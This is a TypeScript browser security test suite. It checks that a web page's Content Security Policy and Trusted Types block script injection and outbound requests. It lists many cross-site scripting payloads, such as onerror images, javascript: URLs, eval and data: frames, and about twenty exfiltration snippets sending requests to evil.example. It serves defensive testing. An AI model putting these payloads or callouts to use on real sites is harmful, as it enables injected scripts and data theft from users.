/** The page's policy holds, whatever gets into the page: no string becomes code, nothing goes elsewhere. */
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "vitest";
import { useStage } from "./stage/stage";

const stage = useStage();

/**
 * Each is run in the page as if some code of the page did it, and must come to nothing. They are texts, since what is handed to the
 * browser as a function may do what the page itself may not; see `attempt`.
 */
const STRINGS_TO_CODE: Record<string, string> = {
  innerHTML: `document.body.innerHTML += "<img src=x onerror=pwned('innerHTML')>"`,
  outerHTML: `document.body.appendChild(document.createElement("i")).outerHTML = "<img src=x onerror=pwned(1)>"`,
  insertAdjacentHTML: `document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=pwned(1)>")`,
  "document.write": `document.write("<script>pwned('write')</" + "script>")`,
  "innerHTML in a shadow": `document.createElement("div").attachShadow({mode: "open"}).innerHTML = "<img src=x onerror=pwned(1)>"`,
  setHTMLUnsafe: `document.createElement("i").setHTMLUnsafe("<img src=x onerror=pwned(1)>")`,
  "a fragment": `document.body.append(new Range().createContextualFragment("<img src=x onerror=pwned(1)>"))`,
  "a parser": `new DOMParser().parseFromString("<img src=x onerror=pwned(1)>", "text/html")`,
  srcdoc: `document.createElement("iframe").srcdoc = "<script>parent.pwned(1)</" + "script>"`,
  eval: `eval("pwned('eval')")`,
  Function: `new Function("pwned('Function')")()`,
  "a late string": `setTimeout("pwned('timeout')", 0)`,
  "a script's text": `const s = document.createElement("script"); s.text = "pwned('text')"; document.body.append(s)`,
  "a script's address": `const s = document.createElement("script"); s.src = "/assets/x.js"; document.body.append(s)`,
  "a handler": `document.createElement("i").setAttribute("onclick", "pwned('handler')")`,
  "a javascript address": `location.href = "javascript:pwned('address')"`,
  "a worker": `new Worker("data:text/javascript,postMessage(1)")`,
  "a worker from a blob": `new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], {type: "text/javascript"})))`,
  "another policy": `trustedTypes.createPolicy("default", {createHTML: (html) => html})`,
  "a policy of a new name": `trustedTypes.createPolicy("mine", {createHTML: (html) => html})`,
  "Lit's policy, once more": `trustedTypes.createPolicy("lit-html", {createHTML: (html) => html})`,
  "our own policy, once more": `trustedTypes.createPolicy("switchboard", {createHTML: (html) => html}); trustedTypes.createPolicy("switchboard", {})`,
  WebAssembly: `new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
};

/** These do not throw; nothing may come of them. */
const MARKUP_THAT_RUNS: Record<string, string> = {
  "a link of javascript, clicked": `const a = document.createElement("a"); a.href = "javascript:pwned('clicked')"; document.body.append(a); a.click()`,
  "a form of javascript, sent": `const f = document.createElement("form"); f.action = "javascript:pwned('form')"; document.body.append(f); f.submit()`,
  "a frame of javascript": `const f = document.createElement("iframe"); f.src = "javascript:parent.pwned('frame')"; document.body.append(f)`,
  "a frame of data": `const f = document.createElement("iframe"); f.src = "data:text/html,<script>parent.pwned(1)</" + "script>"; document.body.append(f)`,
  "an object of data": `const o = document.createElement("object"); o.data = "data:text/html,<script>pwned(1)</" + "script>"; document.body.append(o)`,
  "a style in the document": `const s = document.createElement("style"); s.textContent = "body{visibility:hidden}"; document.head.append(s)`,
  "a style attribute": `document.body.setAttribute("style", "visibility:hidden")`,
};

const WAYS_OUT: Record<string, string> = {
  fetch: `fetch("https://evil.example/fetch", {mode: "no-cors"}).catch(() => {})`,
  "fetch over http": `fetch("http://evil.example/fetch", {mode: "no-cors"}).catch(() => {})`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", "http://evil.example/xhr"); x.send()`,
  WebSocket: `new WebSocket("ws://evil.example/ws")`,
  EventSource: `new EventSource("http://evil.example/sse")`,
  "a beacon": `navigator.sendBeacon("http://evil.example/beacon", "x")`,
  "a picture": `new Image().src = "http://evil.example/picture"`,
  "a background": `document.body.style.backgroundImage = "url(http://evil.example/background)"`,
  "a sheet": `const s = new CSSStyleSheet(); s.replaceSync("html{background:url(http://evil.example/sheet)}"); document.adoptedStyleSheets.push(s)`,
  "a font": `document.fonts.add(new FontFace("x", "url(http://evil.example/font)")); document.fonts.load("10px x").catch(() => {})`,
  "a linked style": `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "http://evil.example/style"; document.head.append(l)`,
  "a prefetch": `const l = document.createElement("link"); l.rel = "prefetch"; l.href = "http://evil.example/prefetch"; document.head.append(l)`,
  "a preload": `const l = document.createElement("link"); l.rel = "modulepreload"; l.href = "http://evil.example/preload"; document.head.append(l)`,
  "a frame": `const f = document.createElement("iframe"); f.src = "http://evil.example/frame"; document.body.append(f)`,
  "a video": `const v = document.createElement("video"); v.src = "http://evil.example/video"; document.body.append(v); v.load()`,
  "a form": `const f = document.createElement("form"); f.action = "http://evil.example/form"; f.target = "_self"; document.body.append(f); f.submit()`,
  "a base": `const b = document.createElement("base"); b.href = "http://evil.example/"; document.head.append(b); new Image().src = "relative"`,
  "a ping of a link": `const a = document.createElement("a"); a.href = "#x"; a.ping = "http://evil.example/ping"; document.body.append(a); a.click()`,
  "an import": `import("http://evil.example/module.js").catch(() => {})`,
};

/** The browser stops these without a word. */
const SILENT_WAYS_OUT: Record<string, string> = {
  "an object": `const o = document.createElement("object"); o.type = "text/html"; o.data = "http://evil.example/object"; document.body.append(o)`,
  "an embed": `const e = document.createElement("embed"); e.type = "text/html"; e.src = "http://evil.example/embed"; document.body.append(e)`,
};

/**
 * Runs a text in the page the way the page's own code would run: as a script with the page's own nonce, later, when no tool of the
 * test is on the stack. Says what came of it.
 */
const attempt = (code: string) => `
  new Promise((done) => {
    const violated = [];
    const see = (event) => violated.push(event.violatedDirective);
    document.addEventListener("securitypolicyviolation", see);
    const finish = (how) => requestAnimationFrame(() => requestAnimationFrame(() => {
      document.removeEventListener("securitypolicyviolation", see);
      done({ how, violated });
    }));
    setTimeout(() => {
      try { ${code}; finish("done"); } catch (error) { finish(error.name); }
    }, 0);
  })`;

interface Outcome {
  how: string;
  violated: string[];
}

/** Whether an attempt was stopped: it threw, or the browser said that the policy stopped it. */
const stopped = ({ how, violated }: Outcome) => how !== "done" || violated.length > 0;

test("no string becomes code", async () => {
  const window = await stage.window();
  for (const [name, code] of Object.entries(STRINGS_TO_CODE)) {
    const outcome = await window.page.evaluate<Outcome>(attempt(code));
    expect.soft(stopped(outcome), name).toBe(true);
  }
  expect(window.trouble.ran).toEqual([]);
});

test("no element runs what it carries", async () => {
  const window = await stage.window();
  for (const [name, code] of Object.entries(MARKUP_THAT_RUNS)) {
    await window.page.evaluate<Outcome>(attempt(code));
    expect.soft(window.trouble.ran, name).toEqual([]);
    expect
      .soft(await window.page.evaluate(() => getComputedStyle(document.body).visibility), name)
      .toBe("visible");
  }
  expect(new URL(window.page.url()).pathname).toBe("/");
});

test("nothing goes elsewhere", async () => {
  const window = await stage.window();
  for (const code of Object.values(SILENT_WAYS_OUT)) await window.page.evaluate<Outcome>(attempt(code));
  for (const [name, code] of Object.entries(WAYS_OUT)) {
    const before = window.trouble.violations.length;
    await window.page.evaluate<Outcome>(attempt(code));
    // A request that was stopped was said to be stopped; until then it may still be under way.
    await expect
      .poll(() => window.trouble.violations.length, { message: name, timeout: 10_000 })
      .toBeGreaterThan(before);
  }
  expect(stage.trap.caught).toEqual([]);
});

test("where there is no policy the same attempts do come through, so that they prove something", async () => {
  const plain = createServer((_request, answer) => {
    answer.setHeader("content-type", "text/html");
    answer.end("<!doctype html><title>Plain</title><p>plain</p>");
  });
  await once(plain.listen(0, "127.0.0.1"), "listening");
  const context = await stage.context();
  await context.addInitScript("globalThis.pwned = () => {}");
  const tried = async (code: string): Promise<Outcome> => {
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${(plain.address() as AddressInfo).port}/`);
    // What leads away from the page ends it before it can say what came of it.
    return page.evaluate<Outcome>(attempt(code)).catch(() => ({ how: "done", violated: [] }));
  };
  try {
    for (const [name, code] of Object.entries(STRINGS_TO_CODE)) {
      expect.soft(stopped(await tried(code)), name).toBe(false);
    }
    stage.trap.caught.splice(0);
    for (const [name, code] of Object.entries({ ...SILENT_WAYS_OUT, ...WAYS_OUT })) {
      await tried(code);
      const seen = expect.poll(() => stage.trap.caught.splice(0).length, { message: name, timeout: 10_000 });
      await seen.toBeGreaterThan(0);
    }
  } finally {
    plain.close();
    // A stream that was cut is asked for again by itself, until its page is gone.
    await context.close();
    stage.trap.caught.splice(0);
  }
});

test("the page itself breaks none of its rules", async () => {
  const window = await stage.window();
  await window.prompt("Hello");
  await window.ended(1, "completed");
  expect(window.trouble.violations).toEqual([]);
});

test("another site can neither frame the page nor read its answers", async () => {
  const context = await stage.context();
  const window = await stage.window(context);
  const response = await window.page.request.get(stage.host.url);
  expect(response.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
  const other = await context.newPage();
  await other.goto("about:blank");
  const answered = await other.evaluate(
    (to) =>
      fetch(to, { credentials: "include" }).then(
        () => "read",
        () => "refused",
      ),
    stage.host.url,
  );
  expect(answered).toBe("refused");
});
